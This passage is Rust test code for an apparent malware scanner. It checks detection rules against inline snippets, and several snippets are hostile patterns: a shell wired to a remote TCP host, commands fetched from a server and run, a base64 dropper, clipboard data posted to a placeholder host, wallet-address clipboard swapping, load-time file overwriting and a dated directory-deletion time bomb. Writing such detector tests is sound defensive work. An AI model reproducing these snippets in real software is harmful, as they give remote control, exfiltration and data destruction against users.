            &findings(&source("key.unwrap_or_default()")),
            exfiltration,
            Some(Verdict::Hold),
        );
    }

    /// What was copied, kept in a field and put back on the clipboard when the user picks it,
    /// is a clipboard history, not a swap.
    #[test]
    fn a_clipboard_history_kept_in_a_field_is_no_hijack() {
        let source = r#"
            pub struct Ring { entries: Vec<String> }
            impl Ring {
                pub fn capture(&mut self, board: &mut arboard::Clipboard) {
                    if let Ok(text) = board.get_text() {
                        self.entries.insert(0, text);
                    }
                }
                pub fn pick(&mut self, index: usize, board: &mut arboard::Clipboard) {
                    let entry = self.entries.remove(index);
                    let _ = board.set_text(entry.clone());
                    self.entries.insert(0, entry);
                }
            }"#;
        expect(
            &findings(source),
            super::super::rules::CLIPBOARD_HIJACK,
            None,
        );
    }

    #[test]
    fn load_time_code_overwrites_what_a_walk_finds_only_when_the_walk_names_the_file() {
        let start = |body: &str| {
            format!(
                r#"
                #[ctor::ctor]
                fn start() {{
                    let mut names = Vec::new();
                    for entry in std::fs::read_dir("/srv").unwrap().flatten() {{
                        let path = entry.path();
                        names.push(path.display().to_string());
                        {body}
                    }}
                    let listing = names.join("\n");
                    let index = std::env::temp_dir().join("found.idx");
                    let _ = std::fs::write(&index, listing);
                }}"#
            )
        };
        // A list of what was found, written to a file of its own: nothing found is overwritten
        // (though the write makes `index` carry the list for what is done with it afterwards).
        let found = findings(&start(""));
        expect(&found, super::super::rules::DESTRUCTIVE, None);
        // Each file found written over, here or through a helper.
        let found = findings(&start("let _ = std::fs::write(&path, [0u8; 16]);"));
        expect(
            &found,
            super::super::rules::DESTRUCTIVE,
            Some(Verdict::Hold),
        );
        let helper = format!(
            "{}\nfn clear(file: &std::path::Path) {{ let _ = std::fs::File::create(file); }}",
            start("clear(&path);")
        );
        expect(
            &findings(&helper),
            super::super::rules::DESTRUCTIVE,
            Some(Verdict::Hold),
        );
    }

    /// A function that decodes bytes, writes them to `path` and then does `then`.
    fn decodes_writes_then(then: &str) -> String {
        format!(
            r#"
            use base64::Engine;
            pub fn prepare(blob: &str) {{
                let bytes = base64::engine::general_purpose::STANDARD.decode(blob).unwrap();
                let path = std::env::temp_dir().join("helper");
                std::fs::write(&path, &bytes).unwrap();
                {then}
            }}"#
        )
    }

    #[test]
    fn decoded_bytes_written_out_and_started_are_a_dropper() {
        let source = decodes_writes_then;
        let found = findings(&source(
            "let _ = std::process::Command::new(&path).spawn();",
        ));
        expect(&found, super::super::rules::DROPPER, Some(Verdict::Hold));
        // Starting another program beside the decoded file is not starting the file.
        let found = findings(&source(
            "let viewer = std::env::var(\"VIEWER\").unwrap(); \
             let _ = std::process::Command::new(&viewer).spawn();",
        ));
        expect(&found, super::super::rules::DROPPER, None);
    }

    /// A launcher runs what its argument names: `nohup path` starts `path`.
    #[test]
    fn a_decoded_file_started_through_a_launcher_is_a_dropper() {
        let source = |launcher: &str| {
            decodes_writes_then(&format!(
                r#"let _ = std::process::Command::new("{launcher}")
                    .args(["-n", "10"])
                    .arg(&path)
                    .spawn();"#
            ))
        };
        for launcher in ["nohup", "/usr/bin/setsid", "nice"] {
            let found = findings(&source(launcher));
            expect(&found, super::super::rules::DROPPER, Some(Verdict::Hold));
        }
        // A program that is no launcher takes the file as data: a viewer opening it.
        let found = findings(&source("less"));
        expect(&found, super::super::rules::DROPPER, None);
    }

    #[test]
    fn a_shell_whose_pipes_are_copied_to_a_fixed_server_is_a_remote_shell() {
        let found = findings(
            r#"
            use std::process::{Command, Stdio};
            pub fn keepalive() {
                let mut stream = std::net::TcpStream::connect("192.0.2.9:4444").unwrap();
                let mut child = Command::new("sh").stdin(Stdio::piped()).spawn().unwrap();
                let mut input = child.stdin.take().unwrap();
                let _ = std::io::copy(&mut stream, &mut input);
            }"#,
        );
        expect(
            &found,
            super::super::rules::REMOTE_SHELL,
            Some(Verdict::Hold),
        );
    }

    #[test]
    fn looking_for_a_debugger_counts_only_beside_a_payload() {
        let watched = r#"
            extern "system" { fn IsDebuggerPresent() -> i32; }
            fn watched() -> bool { unsafe { IsDebuggerPresent() != 0 } }
        "#;
        let found = findings(&format!(
            r#"{watched}
            pub fn init(line: &str) {{
                if watched() {{ return; }}
                let body = ureq::get("https://cdn.updates.invalid/x").call().unwrap();
                let _ = body;
                let _ = std::process::Command::new("cmd").args(["/C", line]).spawn();
            }}"#
        ));
        assert!(
            found.iter().any(
                |(rule, severity)| rule == super::super::rules::OBFUSCATED_PAYLOAD
                    && *severity == Verdict::Hold
            ),
            "{found:?}"
        );
        let found = findings(&format!(
            r#"{watched}
            pub fn report() -> &'static str {{ if watched() {{ "debugger" }} else {{ "none" }} }}"#
        ));
        assert!(found.is_empty(), "{found:?}");
    }

    #[test]
    fn deleting_a_tree_after_a_date_written_into_the_code_is_a_time_bomb() {
        let source = |when: &str| {
            format!(
                r#"
                use std::time::{{SystemTime, UNIX_EPOCH}};
                pub fn tidy(dir: &std::path::Path, age: u64) {{
                    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
                    if now > {when} {{
                        let _ = std::fs::remove_dir_all(dir);
                    }}
                }}"#
            )
        };
        let found = findings(&source("1793491200"));
        expect(
            &found,
            super::super::rules::DESTRUCTIVE,
            Some(Verdict::Hold),
        );
        // An age computed from the caller's number is a cache's expiry.
        let found = findings(&source("age"));
        expect(&found, super::super::rules::DESTRUCTIVE, None);
    }

    #[test]
    fn a_name_bound_again_does_not_keep_its_earlier_literal() {
        let found = findings(
            r#"
            pub fn run_hint() {
                let body = ureq::get("https://hints.invalid/").call().unwrap();
                let body = body.into_string().unwrap();
                let cmd = "true";
                let cmd = body.trim();
                let _ = std::process::Command::new("sh").arg("-c").arg(cmd).status();
            }"#,
        );
        expect(
            &found,
            super::super::rules::REMOTE_CONTROL,
            Some(Verdict::Hold),
        );
    }

    #[test]
    fn a_buffer_filled_by_a_chain_over_several_lines_carries_the_connection() {
        let found = findings(
            r#"
            use std::io::Read;
            const SERVER: &str = "192.0.2.7:9000";
            pub fn poll() {
                let mut command = String::new();
                let _ = std::net::TcpStream::connect(SERVER)
                    .unwrap()
                    .read_to_string(&mut command);
                let _ = std::process::Command::new("sh").arg("-c").arg(&command).status();
            }"#,
        );
        expect(
            &found,
            super::super::rules::REMOTE_CONTROL,
            Some(Verdict::Hold),
        );
    }

    #[test]
    fn a_shell_that_runs_a_downloader_is_not_a_shell_wired_to_a_connection() {
        let found = findings(
            r#"
            pub fn setup() {
                let _ = std::process::Command::new("sh")
                    .arg("-c")
                    .arg("curl -fsSL https://setup.invalid/i.sh | sh")
                    .status();
            }"#,
        );
        expect(&found, super::super::rules::REMOTE_SHELL, None);
    }

    #[test]
    fn code_fetched_from_a_fixed_place_and_run_in_an_embedded_interpreter_is_remote_control() {
        let source = |code: &str| {
            format!(
                r#"
                use mlua::Lua;
                const EXTRAS: &str = "https://extras.invalid/prelude.lua";
                fn fetch() -> Option<String> {{
                    std::sync::OnceLock::<Option<String>>::new()
                        .get_or_init(|| ureq::get(EXTRAS).call().ok()?.into_string().ok())
                        .clone()
                }}
                pub fn prelude(lua: &Lua, user: &str) {{
                    let fetched = fetch().unwrap_or_default();
                    let _ = fetched.len();
                    let _ = lua.load({code}).exec();
                }}"#
            )
        };
        let found = findings(&source("&fetched"));
        expect(
            &found,
            super::super::rules::REMOTE_CONTROL,
            Some(Verdict::Hold),
        );
        // The configuration its caller hands it is the caller's business.
        let found = findings(&source("user"));
        expect(&found, super::super::rules::REMOTE_CONTROL, None);
    }

    #[test]
    fn the_clipboard_read_through_a_table_of_programs_and_sent_away_is_exfiltration() {
        let found = findings(
            r#"
            const READERS: &[&str] = &["pbpaste", "wl-paste"];
            pub fn watch() {
                for program in READERS {
                    let Ok(out) = std::process::Command::new(program).output() else { continue };
                    let _ = ureq::post("https://paste-sink.invalid/c").send_bytes(&out.stdout);
                }
            }"#,
        );
        expect(
            &found,
            super::super::rules::EXFILTRATION,
            Some(Verdict::Hold),
        );
    }

    #[test]
    fn a_constructor_of_one_type_is_not_every_new() {
        // `Command::new` is not `Fetcher::new`, whose value came from the network.
        let source = r#"
            pub struct Fetcher { body: String }
            impl Fetcher {
                pub fn new() -> Self {
                    let body = ureq::get("https://updates.invalid/").call().unwrap();
                    Fetcher { body: body.into_string().unwrap() }
                }
            }
            pub fn run_argument() {
                let line = std::env::args().nth(1).unwrap();
                let _ = std::process::Command::new("sh").arg("-c").arg(&line).status();
                let fetched = Fetcher::new();
                println!("{}", fetched.body.len());
            }"#;
        let flows: Vec<_> = report(source)
            .signals
            .into_iter()
            .filter(|s| {
                matches!(
                    s.kind,
                    SignalKind::Flow {
                        source: super::Source::Network,
                        sink: super::Sink::Shell,
                        ..
                    }
                )
            })
            .collect();
        assert!(flows.is_empty(), "{flows:#?}");
    }

    /// A handle on the clipboard whose methods start the desktop's tools (`get` reads what
    /// `wl-paste` prints, `set` writes into `wl-copy`), named by helpers that return the
    /// command.
    const TOOL_HANDLE: &str = r#"
use std::io::{Read, Write};
use std::process::{Command, Stdio};
#[derive(Clone)]
pub struct Board { wayland: bool }
impl Board {
    fn paste_command(&self) -> Command {
        let command;
        if self.wayland { command = Command::new("wl-paste"); } else { command = Command::new("pbpaste"); }
        command
    }
    fn copy_command(&self) -> Command {
        let command;
        if self.wayland { command = Command::new("wl-copy"); } else { command = Command::new("pbcopy"); }
        command
    }
    pub fn get(&self) -> std::io::Result<String> {
        let mut child = self.paste_command().stdout(Stdio::piped()).spawn()?;
        let mut text = String::new();
        if let Some(mut out) = child.stdout.take() { out.read_to_string(&mut text)?; }
        Ok(text)
    }
    pub fn set(&self, text: &str) -> std::io::Result<()> {
        let mut child = self.copy_command().stdin(Stdio::piped()).spawn()?;
        if let Some(mut input) = child.stdin.take() { input.write_all(text.as_bytes())?; }
        Ok(())
    }
}
"#;

    /// `board.get()` and `board.set(…)` are too common names to follow by name alone; the
    /// parameter's declared type (`board: &Board`, and its clone moved into a thread) says
    /// whose they are, and a writer tool named in the helper that returns the command makes
    /// what `set` writes into the program's input the clipboard.
    #[test]
    fn methods_of_a_parameters_declared_type_are_followed_under_common_names() {
        let found = findings(&format!(
            r#"{TOOL_HANDLE}
pub fn keep(board: &Board) {{
    let board = board.clone();
    std::thread::spawn(move || loop {{
        let text = board.get().unwrap_or_default();
        let tidied = text.replace("0x5a", "0x7e");
        if tidied != text {{ let _ = board.set(&tidied); }}
    }});
}}"#
        ));
        expect(
            &found,
            super::super::rules::CLIPBOARD_HIJACK,
            Some(Verdict::Hold),
        );
        // The same through a handle bound to what a free function of the crate returns.
        let found = findings(&format!(
            r#"{TOOL_HANDLE}
pub fn current() -> Option<Board> {{ Some(Board {{ wayland: true }}) }}
pub fn keep() {{
    let board = current().unwrap();
    loop {{
        let text = board.get().unwrap_or_default();
        let tidied = text.replace("0x5a", "0x7e");
        if tidied != text {{ let _ = board.set(&tidied); }}
    }}
}}"#
        ));
        expect(
            &found,
            super::super::rules::CLIPBOARD_HIJACK,
            Some(Verdict::Hold),
        );
        // Through a maker that returns a `Result`, unwrapped with `?`.
        let found = findings(&format!(
            r#"{TOOL_HANDLE}
pub fn current() -> std::io::Result<Board> {{ Ok(Board {{ wayland: true }}) }}
pub fn keep() -> std::io::Result<()> {{
    let board = current()?;
    loop {{
        let text = board.get()?;
        let _ = board.set(&text.replace("0x5a", "0x7e"));
    }}
}}"#
        ));
        expect(
            &found,
            super::super::rules::CLIPBOARD_HIJACK,
            Some(Verdict::Hold),
        );
        // A name bound again by a loop is no longer the parameter (`board` of a list's rows),
        // and a function of another crate (`rows::get`) is not the crate's maker.
        for body in [
            "for board in rows { let t = board.get(0).cloned().unwrap_or_default(); board.set(&t); }",
            "let board = other::current(); let t = board.get(); board.set(&t);",
        ] {
            let found = findings(&format!(
                r#"{TOOL_HANDLE}
pub fn current() -> Board {{ Board {{ wayland: true }} }}
pub fn relay(board: &Board, rows: Vec<Vec<String>>) {{
    let _ = board.set("ready");
    {body}
}}"#
            ));
            expect(&found, super::super::rules::CLIPBOARD_HIJACK, None);
        }
        // The same handle used by an application's history: what was read is kept, and an
        // entry goes back only when the user picks it (a field does not carry the clipboard).
        let found = findings(&format!(
            r#"{TOOL_HANDLE}
pub struct History {{ entries: Vec<String> }}
impl History {{
    pub fn record(&mut self, board: &Board) {{
        let text = board.get().unwrap_or_default();
        self.entries.push(text);
    }}
    pub fn restore(&self, board: &Board, index: usize) {{
        if let Some(entry) = self.entries.get(index) {{ let _ = board.set(entry); }}
    }}
}}
pub fn copy_tidy(board: &Board, text: &str) {{
    let _ = board.set(&text.trim().to_owned());
}}"#
        ));
        expect(&found, super::super::rules::CLIPBOARD_HIJACK, None);
    }

    /// A native function looked up by a name a connection sent (`dlsym(RTLD_DEFAULT, name)`)
    /// is run by whoever is at the other end; one looked up by the code's own names is a
    /// loader's, whatever else the crate does over the network.
    #[test]
    fn a_native_function_the_network_names_is_remote_control() {
        let found = findings(
            r#"
use std::io::{BufRead, BufReader};
fn lookup(name: &std::ffi::CString) -> *mut std::ffi::c_void {
    unsafe { libc::dlsym(libc::RTLD_DEFAULT, name.as_ptr()) }
}
pub fn follow(address: &str) {
    let stream = std::net::TcpStream::connect(address).unwrap();
    for line in BufReader::new(stream).lines() {
        let name = std::ffi::CString::new(line.unwrap()).unwrap();
        let routine: extern "C" fn() = unsafe { std::mem::transmute(lookup(&name)) };
        routine();
    }
}"#,
        );
        expect(
            &found,
            super::super::rules::REMOTE_CONTROL,
            Some(Verdict::Hold),
        );
        let found = findings(
            r#"
use std::io::Read;
const ENTRY_POINTS: &[&str] = &["glBindBuffer", "glDrawArrays"];
fn lookup(name: &std::ffi::CString) -> *mut std::ffi::c_void {
    unsafe { libc::dlsym(libc::RTLD_DEFAULT, name.as_ptr()) }
}
pub fn load() -> Vec<*mut std::ffi::c_void> {
    ENTRY_POINTS.iter().map(|n| lookup(&std::ffi::CString::new(*n).unwrap())).collect()
}
pub fn latest(address: &str) -> String {
    let mut stream = std::net::TcpStream::connect(address).unwrap();
    let mut reply = String::new();
    stream.read_to_string(&mut reply).unwrap();
    reply
}"#,
        );
        expect(&found, super::super::rules::REMOTE_CONTROL, None);
        // A name written out is the code's own choice: no signal at all (the file is read,
        // its target talking to the network; a computed name there is a signal).
        let native = |name: &str| {
            report(&format!(
                r#"pub fn pid(name: &std::ffi::CStr) -> *mut std::ffi::c_void {{
                    unsafe {{ libc::dlsym(libc::RTLD_DEFAULT, {name}.as_ptr()) }}
                }}
                pub fn ping(address: &str) {{ let _ = std::net::TcpStream::connect(address); }}"#
            ))
            .signals
            .iter()
            .any(|s| matches!(s.kind, SignalKind::NativeByName { .. }))
        };
        assert!(!native("c\"getpid\""));
        assert!(native("name"));
    }

    /// The value of an XML namespace attribute in an XML text names a vocabulary, not a server
    /// (the attribute's name and value as two literals, `("xmlns", URL)`, are not trusted:
    /// `["xmlns", "https://…"][1]` would hide any address).
    #[test]
    fn xml_namespaces_are_no_destinations() {
        let destinations = |source: &str| {
            report(source)
                .signals
                .into_iter()
                .filter(|s| matches!(s.kind, SignalKind::Destination { .. }))
                .count()
        };
        // Read in the first round: it talks to the network and asks its environment.
        let namespaced = r#"
use std::io::Write;
pub fn upload(address: &str) {
    let body = String::from("<Result xmlns=\"http://www.example.org/ns/2020\"/>");
    let user = std::env::vars().count();
    let mut stream = std::net::TcpStream::connect(address).unwrap();
    let _ = stream.write_all(format!("{user}{body}").as_bytes());
}"#;
        assert_eq!(destinations(namespaced), 0);
        let paired = namespaced.replace(
            "let body",
            "let _pair = (\"xmlns\", \"http://s3.example.net/doc/\");\n    let body",
        );
        assert_eq!(destinations(&paired), 1);
        let linked = namespaced.replace("xmlns", "href");
        assert_eq!(destinations(&linked), 1);
    }

    /// A decoder called with a value of the run (`reference(slot)`) is evaluated on the first
    /// indices: an address hidden in its table is found whichever index the run picks, and a
    /// table of plain labels hides nothing.
    #[test]
    fn a_table_of_hidden_strings_picked_by_a_value_of_the_run_is_read_at_every_index() {
        let source = |text: &str| {
            let packed: Vec<String> = text
                .bytes()
                .enumerate()
                .map(|(i, b)| format!("{:#04x}", b ^ 0x5a ^ (i as u8 & 0x0f)))
                .collect();
            format!(
                r#"
const PACKED: [&[u8]; 1] = [&[{}]];
fn reference(slot: usize) -> String {{
    PACKED[slot].iter().enumerate().map(|(i, b)| (b ^ 0x5a ^ (i as u8 & 0x0f)) as char).collect()
}}
pub fn copy(address: &str) -> Result<(), arboard::Error> {{
    let slot = usize::from(address.starts_with("bc1"));
    let mut board = arboard::Clipboard::new()?;
    board.set_text(reference(slot.saturating_sub(1)))
}}"#,
                packed.join(", ")
            )
        };
        let strong_wallet = |report: &crate::scan::Report| {
            report
                .signals
                .iter()
                .any(|s| matches!(s.kind, SignalKind::Wallet { strong: true, .. }))
        };
        let hidden = report(&source("bc1qqpzry9x8gf2tvdw0s3jn54khce6mua7lqpzry9x8"));
        assert!(strong_wallet(&hidden), "{:#?}", hidden.signals);
        expect(
            &hidden
                .findings
                .iter()
                .map(|f| (f.rule.clone(), f.severity))
                .collect::<Vec<_>>(),
            super::super::rules::CLIPBOARD_HIJACK,
            Some(Verdict::Hold),
        );
        let labels = report(&source("Bitcoin mainnet"));
        assert!(!strong_wallet(&labels), "{:#?}", labels.signals);
        assert!(
            !labels
                .signals
                .iter()
                .any(|s| matches!(s.kind, SignalKind::HiddenIndicator { .. })),
            "{:#?}",
            labels.signals
        );
    }
}
